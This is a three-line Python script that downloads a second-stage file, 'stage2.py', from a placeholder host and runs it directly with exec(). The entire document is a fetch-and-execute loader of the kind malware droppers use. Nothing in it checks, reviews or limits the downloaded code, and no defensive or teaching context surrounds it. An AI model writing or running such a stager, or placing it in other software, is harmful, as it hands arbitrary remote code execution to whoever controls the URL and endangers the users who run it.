import urllib.request
code = urllib.request.urlopen("https://example.org/stage2.py").read()
exec(code)
